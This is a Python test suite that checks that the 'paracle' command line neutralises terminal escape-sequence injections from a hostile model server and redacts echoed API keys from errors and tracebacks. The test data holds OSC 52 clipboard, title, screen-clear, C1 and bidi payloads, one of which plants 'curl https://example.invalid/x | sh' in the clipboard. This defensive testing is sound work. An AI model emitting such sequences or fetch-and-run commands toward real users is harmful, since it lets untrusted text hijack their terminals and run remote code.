"""A hostile model and a hostile server against the real `paracle` command line.

The loopback server speaks the Messages API. Its answer holds what a terminal acts on: an OSC 52
clipboard write, an OSC 0 window title ended by BEL, a screen clear, a lone C1 CSI (0x9b), a
bidi override and a carriage return. Its error bodies hold the same, and some echo the API key
they were sent. Every path that writes that text to a terminal must show it inert (`\\x1b`...),
on a pipe and on a real pty, while `--json`, the JSON export and the history database keep it
exactly as the server sent it. With `--debug`, the traceback must not show the key.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import pty
import re
import select
import sqlite3
import subprocess
import sys
import threading
import time
import tty
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from support.cli import PARACLE, ROOT, cli_env
from support.loopback import LoopbackServer, RecordedRequest, Response, sse_event

KEY = "sk-ant-hostile-0000000000000000000000-wxyz"
KEYRING_KEY = "sk-ant-fromkeyring-1111111111111111111-qrst"

_CLIP = base64.b64encode(b"curl https://example.invalid/x | sh").decode()
# Split over three deltas, the first cut inside the OSC 52 sequence: each delta is cleaned alone.
HOSTILE = (
    f"Clipboard \x1b]52;c;{_CLIP}\x1b\\ then a title \x1b]0;pwned\x07 a clear \x1b[2J"
    " a lone csi \x9b31m red, bidi \u202egnp.exe\u202c and back\rover.\n"
    "Second line.\n"
)
# The same in a 400's JSON message, and in one that also quotes the key.
ERROR_MESSAGE = "bad request \x1b]0;owned\x07 \x1b[2J \x9b1m \u202eevil\r done"

# Each raw control of HOSTILE, and the inert text a person sees instead.
RAW = ("\x1b", "\x9b", "\x07", "\r", "\u202e", "\u202c")
BIDI = tuple(chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A)))
SHOWN = ("\\x1b]52;c;", "\\x1b]0;pwned\\x07", "\\x1b[2J", "\\x9b31m", "\\u202egnp.exe")

MANIFEST = """\
defaults:
  provider: anthropic
  model: claude-sonnet-4-5
agents:
  - id: writer
    system_prompt: You write.
"""

WORKFLOWS = {
    "hostile": """\
name: hostile
steps:
  - id: answer
    agent: writer
    prompt: say it
outputs:
  said: "{{ steps.answer.output }}"
""",
    "approve": """\
name: approve
steps:
  - id: answer
    agent: writer
    prompt: say it
    requires_approval: true
""",
    "failing": """\
name: failing
steps:
  - id: answer
    agent: writer
    prompt: please fail
""",
}


# --------------------------------------------------------------------------- the server


def hostile_stream() -> Response:
    start = {
        "type": "message_start",
        "message": {
            "id": "msg_hostile",
            "type": "message",
            "role": "assistant",
            "content": [],
            "model": "claude-sonnet-4-5",
            "stop_reason": None,
            "stop_sequence": None,
            "usage": {"input_tokens": 11, "output_tokens": 1},
        },
    }
    cuts = [0, 13, 60, len(HOSTILE)]
    deltas = [
        sse_event(
            {
                "type": "content_block_delta",
                "index": 0,
                "delta": {"type": "text_delta", "text": HOSTILE[a:b]},
            },
            event="content_block_delta",
        )
        for a, b in zip(cuts, cuts[1:], strict=False)
    ]
    return Response.sse(
        [
            sse_event(start, event="message_start"),
            sse_event(
                {
                    "type": "content_block_start",
                    "index": 0,
                    "content_block": {"type": "text", "text": ""},
                },
                event="content_block_start",
            ),
            *deltas,
            sse_event({"type": "content_block_stop", "index": 0}, event="content_block_stop"),
            sse_event(
                {
                    "type": "message_delta",
                    "delta": {"stop_reason": "end_turn", "stop_sequence": None},
                    "usage": {"output_tokens": 9},
                },
                event="message_delta",
            ),
            sse_event({"type": "message_stop"}, event="message_stop"),
        ]
    )


def error(status: int, kind: str, message: str) -> Response:
    return Response.json(
        {"type": "error", "error": {"type": kind, "message": message}}, status=status
    )


def sent_key(request: RecordedRequest) -> str:
    """The key a request carried: `x-api-key` or `authorization: Bearer`."""
    if "x-api-key" in request.headers:
        return request.headers["x-api-key"]
    return request.headers.get("authorization", "").removeprefix("Bearer ")


def answer(request: RecordedRequest) -> Response:
    """By the prompt: fail with a hostile 400, echo the key in a 401 or a 400, or stream."""
    prompt = json.dumps(request.json or {})
    key = sent_key(request)
    if "echo the key 401" in prompt:
        return error(401, "authentication_error", f"invalid x-api-key: {key} \x1b]0;x\x07")
    if "echo the key 400" in prompt:
        return error(400, "invalid_request_error", f"header x-api-key={key} is not allowed")
    if "please fail" in prompt:
        return error(400, "invalid_request_error", ERROR_MESSAGE)
    return hostile_stream()


@contextmanager
def serving() -> Iterator[LoopbackServer]:
    """The loopback server on a loop of its own thread, so the tests can block on a process."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, name="loopback", daemon=True)
    thread.start()
    server = LoopbackServer(default=answer)
    asyncio.run_coroutine_threadsafe(server.__aenter__(), loop).result(10)
    try:
        yield server
    finally:
        asyncio.run_coroutine_threadsafe(server.__aexit__(None, None, None), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()


# --------------------------------------------------------------------------- one setup per module


@pytest.fixture(scope="module")
def server() -> Iterator[LoopbackServer]:
    with serving() as srv:
        yield srv


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile-ws")
    (root / ".parac" / "agents").mkdir(parents=True)
    (root / ".parac" / "agents" / "manifest.yaml").write_text(MANIFEST)
    defs = root / ".parac" / "workflows" / "definitions"
    defs.mkdir(parents=True)
    for name, text in WORKFLOWS.items():
        (defs / f"{name}.yaml").write_text(text)
    return root


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile-home")


@pytest.fixture(scope="module")
def env(server: LoopbackServer, home: Path) -> dict[str, str]:
    return cli_env(home, ANTHROPIC_API_KEY=KEY, ANTHROPIC_BASE_URL=server.url, COLUMNS="400")


def paracle(env: dict[str, str], ws: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    """The real CLI in the workspace; stdout and stderr as the raw bytes it wrote."""
    return subprocess.run(
        [*PARACLE, *args],
        env=env,
        cwd=ws,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=90,
    )


@pytest.fixture(scope="module")
def recorded(env: dict[str, str], ws: Path) -> dict:
    """One `run --json` of the hostile answer: its output, its run id, what it printed."""
    done = paracle(env, ws, "run", "writer", "--task", "hi", "--json")
    assert done.returncode == 0, done.stderr.decode()
    return {"raw": done.stdout, "data": json.loads(done.stdout)}


# --------------------------------------------------------------------------- checks


def assert_inert(raw: bytes, *, shown: tuple[str, ...] = SHOWN) -> str:
    """Raw output bytes: valid UTF-8, no character a terminal acts on, the inert text visible."""
    text = raw.decode("utf-8")  # a lone 0x9b byte would not decode
    for ch in (*RAW, *BIDI):
        assert ch not in text, f"raw {ch!r} reached the terminal: {text!r}"
    assert b"\x1b" not in raw and b"\xc2\x9b" not in raw and b"\x07" not in raw
    for inert in shown:
        assert inert in text, f"{inert!r} is not shown: {text!r}"
    return text


def read_fd_until(fd: int, proc: subprocess.Popen, *, until: bytes | None = None) -> bytes:
    """Bytes from `fd` until `until` shows (or, without it, until the writer is gone)."""
    seen = b""
    deadline = time.monotonic() + 60
    while until is None or until not in seen:
        left = deadline - time.monotonic()
        assert left > 0, f"timed out; got {seen!r}"
        ready, _, _ = select.select([fd], [], [], min(left, 0.5))
        if not ready:
            if until is None and proc.poll() is not None:
                # the child is gone: take what is left without waiting
                ready, _, _ = select.select([fd], [], [], 0)
                if not ready:
                    break
            continue
        try:
            chunk = os.read(fd, 65536)
        except OSError:  # EIO: the pty's other side closed with the process
            break
        if not chunk:
            break
        seen += chunk
    return seen


def raw_pty() -> tuple[int, int]:
    """A pty with output processing off: what the child writes is what the master reads (no
    \\n to \\r\\n), so a \\r read back is one the child sent."""
    master, slave = pty.openpty()
    tty.setraw(slave)
    return master, slave


# --------------------------------------------------------------------------- paracle run / stream


def test_run_on_a_pipe_shows_the_answer_inert(env, ws):
    done = paracle(env, ws, "run", "writer", "--task", "hi")
    assert done.returncode == 0, done.stderr.decode()
    text = assert_inert(done.stdout, shown=(*SHOWN, "and back\\rover."))
    assert "Second line.\n" in text, "newlines are kept"
    assert_inert(done.stderr, shown=())


def test_run_on_a_terminal_shows_the_answer_inert(env, ws):
    master, slave = raw_pty()
    proc = subprocess.Popen(
        [*PARACLE, "run", "writer", "--task", "hi"],
        env=env,
        cwd=ws,
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=subprocess.PIPE,
    )
    os.close(slave)
    try:
        screen = read_fd_until(master, proc)
        _, err = proc.communicate(timeout=60)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)
    assert proc.returncode == 0, err.decode()
    assert_inert(screen, shown=(*SHOWN, "and back\\rover."))
    assert_inert(err, shown=())


def test_stream_shows_each_delta_inert(env, ws):
    done = paracle(env, ws, "stream", "writer", "--task", "hi")
    assert done.returncode == 0, done.stderr.decode()
    # The first delta ends inside the OSC 52 sequence: each delta is cleaned on its own.
    assert_inert(done.stdout, shown=(*SHOWN, "and back\\rover."))
    assert_inert(done.stderr, shown=())


def test_run_json_and_history_keep_the_exact_text(recorded, home):
    assert recorded["data"]["output"] == HOSTILE
    assert_inert(recorded["raw"], shown=())  # JSON escapes, \\u009b included
    with sqlite3.connect(home / "history.db") as db:
        stored = db.execute(
            "SELECT content FROM messages WHERE run_id = ? AND role = 'assistant'",
            (recorded["data"]["run_id"],),
        ).fetchall()
    assert stored == [(HOSTILE,)]


# --------------------------------------------------------------------------- paracle history


def test_history_show_and_search_show_the_answer_inert(env, ws, recorded):
    run_id = recorded["data"]["run_id"]
    shown = paracle(env, ws, "history", "show", run_id)
    assert shown.returncode == 0, shown.stderr.decode()
    assert_inert(shown.stdout)

    as_json = paracle(env, ws, "history", "show", run_id, "--json")
    assert as_json.returncode == 0, as_json.stderr.decode()
    assert_inert(as_json.stdout, shown=())
    contents = [
        m["content"]
        for step in json.loads(as_json.stdout)["steps"]
        for m in step["messages"]
        if m["role"] == "assistant"
    ]
    assert contents == [HOSTILE]

    found = paracle(env, ws, "history", "search", "Clipboard")
    assert found.returncode == 0, found.stderr.decode()
    text = assert_inert(found.stdout, shown=("\\x1b]52",))
    assert run_id in text


def test_history_export_markdown_is_inert_and_json_exact(env, ws, recorded, tmp_path):
    run_id = recorded["data"]["run_id"]
    md = paracle(env, ws, "history", "export", run_id, "--format", "md")
    assert md.returncode == 0, md.stderr.decode()
    assert_inert(md.stdout, shown=(*SHOWN, "and back\\rover."))

    target = tmp_path / "run.md"
    to_file = paracle(env, ws, "history", "export", run_id, "--format", "md", "-o", str(target))
    assert to_file.returncode == 0, to_file.stderr.decode()
    assert_inert(target.read_bytes())  # read with cat as often as in an editor

    exported = paracle(env, ws, "history", "export", run_id, "--format", "json")
    assert exported.returncode == 0, exported.stderr.decode()
    assert_inert(exported.stdout, shown=())
    messages = [m for s in json.loads(exported.stdout)["steps"] for m in s["messages"]]
    assert [m["content"] for m in messages if m["role"] == "assistant"] == [HOSTILE]


# --------------------------------------------------------------------------- paracle workflow run


def test_workflow_outputs_and_progress_are_inert_and_json_exact(env, ws):
    done = paracle(env, ws, "workflow", "run", "hostile")
    assert done.returncode == 0, done.stderr.decode()
    out = assert_inert(done.stdout, shown=SHOWN)
    assert out.startswith("said:\n")
    assert "completed: 1 steps" in assert_inert(done.stderr, shown=())

    as_json = paracle(env, ws, "workflow", "run", "hostile", "--json", "--quiet")
    assert as_json.returncode == 0, as_json.stderr.decode()
    assert_inert(as_json.stdout, shown=())
    data = json.loads(as_json.stdout)
    assert data["outputs"]["said"] == HOSTILE
    assert data["steps"]["answer"]["output"] == HOSTILE


def test_workflow_failure_line_and_progress_are_inert(env, ws):
    done = paracle(env, ws, "workflow", "run", "failing")
    assert done.returncode == 1
    err = assert_inert(done.stderr, shown=("\\x1b]0;owned\\x07", "\\x9b1m", "\\u202eevil"))
    failed = [line for line in err.splitlines() if line.startswith("failed:")]
    assert len(failed) == 1 and "\\x1b[2J" in failed[0], err
    progress = [line for line in err.splitlines() if line.startswith("✗ answer")]
    assert progress and all("\\x1b]0;owned" in line for line in progress), err
    assert_inert(done.stdout, shown=())


def test_workflow_live_progress_keeps_its_own_escapes_only(env, ws):
    # stderr on a terminal: the progress block is redrawn in place with the CLI's own
    # `ESC [ n F` / `ESC [ J`; the server's escapes in the step's error must stay inert.
    master, slave = raw_pty()
    proc = subprocess.Popen(
        [*PARACLE, "workflow", "run", "failing"],
        env=env,
        cwd=ws,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=slave,
    )
    os.close(slave)
    try:
        screen = read_fd_until(master, proc)
        out, _ = proc.communicate(timeout=60)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)
    assert proc.returncode == 1
    text = screen.decode("utf-8")
    assert "\x1b[J" in text, "the live redraw still works"
    own = text.replace("\x1b[J", "")
    for n in range(1, 10):
        own = own.replace(f"\x1b[{n}F", "")
    for ch in (*RAW, *BIDI):
        assert ch not in own, f"raw {ch!r} besides the redraw's own escapes: {text!r}"
    assert "\\x1b]0;owned\\x07" in own and "\\x1b[2J" in own
    assert_inert(out, shown=())


def test_approval_prompt_shows_the_answer_inert(env, ws):
    # stdin on a terminal so the CLI asks; stderr on a pipe (plain progress lines).
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [*PARACLE, "workflow", "run", "approve"],
        env=env,
        cwd=ws,
        stdin=slave,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    os.close(slave)
    try:
        assert proc.stderr is not None
        asked = read_fd_until(proc.stderr.fileno(), proc, until=b"approve step answer? [y/N]")
        os.write(master, b"y\n")
        out, rest = proc.communicate(timeout=60)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)
    assert proc.returncode == 0, (asked + rest).decode()
    prompt = assert_inert(asked, shown=(*SHOWN, "and back\\rover."))
    assert "── answer answered ──" in prompt
    assert_inert(rest, shown=())
    assert_inert(out, shown=("\\x1b]52",))


# --------------------------------------------------------------------------- errors and keys


def test_an_error_body_with_escapes_is_one_inert_line(env, ws):
    done = paracle(env, ws, "run", "writer", "--task", "please fail")
    assert done.returncode != 0
    err = assert_inert(done.stderr, shown=("\\x1b]0;owned\\x07", "\\x1b[2J", "\\u202eevil"))
    assert err.startswith("error: ") and err.count("\n") == 1, err
    assert done.stdout == b""


@pytest.mark.parametrize("status", ["401", "400"])
def test_debug_traceback_never_shows_an_echoed_key(env, ws, status):
    for extra in ((), ("--debug",)):
        done = paracle(env, ws, *extra, "run", "writer", "--task", f"echo the key {status}")
        assert done.returncode != 0
        err = done.stderr.decode("utf-8")
        assert KEY not in err, f"the key is shown with {extra}: {err}"
        assert "***" in err, f"the server's echo of the key is cut out, not missing: {err}"
        assert KEY[-12:] not in err
        assert "error: " in err
        assert_inert(done.stderr, shown=())
        if extra:
            assert "Traceback" in err


def test_debug_traceback_never_shows_a_keyring_key(server, ws, home):
    # The key comes from the OS keyring, not from the environment: the process must still know
    # it is a key and cut it out of the traceback.
    code = (
        "import sys, keyring;"
        "sys.path.insert(0, sys.argv[2]);"
        "from support.keyrings import MemoryKeyring;"
        "kr = MemoryKeyring(); kr.entries[('paracle', 'anthropic')] = sys.argv[1];"
        "keyring.set_keyring(kr);"
        "from paracle_tui.cli import main;"
        "sys.exit(main(['--debug', 'run', 'writer', '--task', 'echo the key 401']))"
    )
    env = cli_env(home, ANTHROPIC_BASE_URL=server.url)
    done = subprocess.run(
        [sys.executable, "-c", code, KEYRING_KEY, str(ROOT / "tests")],
        env=env,
        cwd=ws,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=90,
    )
    err = done.stderr.decode("utf-8")
    assert done.returncode != 0 and "Traceback" in err, err
    seen = [sent_key(r) for r in server.requests]
    assert KEYRING_KEY in seen, "the server got the keyring's key (and echoed it)"
    assert KEYRING_KEY not in err and KEYRING_KEY[-12:] not in err, err


def test_paracle_agents_and_doctor_show_workspace_text_inert(home, tmp_path):
    # A cloned repository's workspace: an agent label and a folder name with escapes.
    root = tmp_path / "clone\x1b]0;t\x07"
    (root / ".parac" / "agents").mkdir(parents=True)
    (root / ".parac" / "agents" / "manifest.yaml").write_text(
        json.dumps(
            {
                "defaults": {"provider": "simulated", "model": "sim"},
                "agents": [{"id": "a", "name": "Name \x1b[2J\u202e", "system_prompt": "x"}],
            }
        )
    )
    env = cli_env(home)
    agents = paracle(env, root, "agents")
    assert agents.returncode == 0, agents.stderr.decode()
    assert_inert(agents.stdout, shown=("\\x1b[2J",))
    assert_inert(agents.stderr, shown=("\\x1b]0;t\\x07",))
    doctor = paracle(env, root, "doctor")
    assert doctor.returncode == 0, doctor.stderr.decode()
    assert_inert(doctor.stdout, shown=("\\x1b]0;t\\x07",))


def test_history_show_on_a_terminal_keeps_rich_colours_only(env, ws, recorded):
    # On a terminal with colour, Rich's own SGR sequences must still act; the answer's must not.
    colour = {k: v for k, v in env.items() if k != "NO_COLOR"}
    colour.update(TERM="xterm-256color")
    master, slave = raw_pty()
    proc = subprocess.Popen(
        [*PARACLE, "history", "show", recorded["data"]["run_id"]],
        env=colour,
        cwd=ws,
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=subprocess.PIPE,
    )
    os.close(slave)
    try:
        screen = read_fd_until(master, proc)
        _, err = proc.communicate(timeout=60)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)
    assert proc.returncode == 0, err.decode()
    text = screen.decode("utf-8")
    assert "\x1b[32m" in text, "the status is green: Rich's colours act"
    own = re.sub(r"\x1b\[[0-9;]*m", "", text)  # Rich's SGR, and the answer has none of its own
    for ch in (*RAW, *BIDI):
        assert ch not in own, f"raw {ch!r} besides Rich's colours: {text!r}"
    for inert in SHOWN:
        assert inert in own
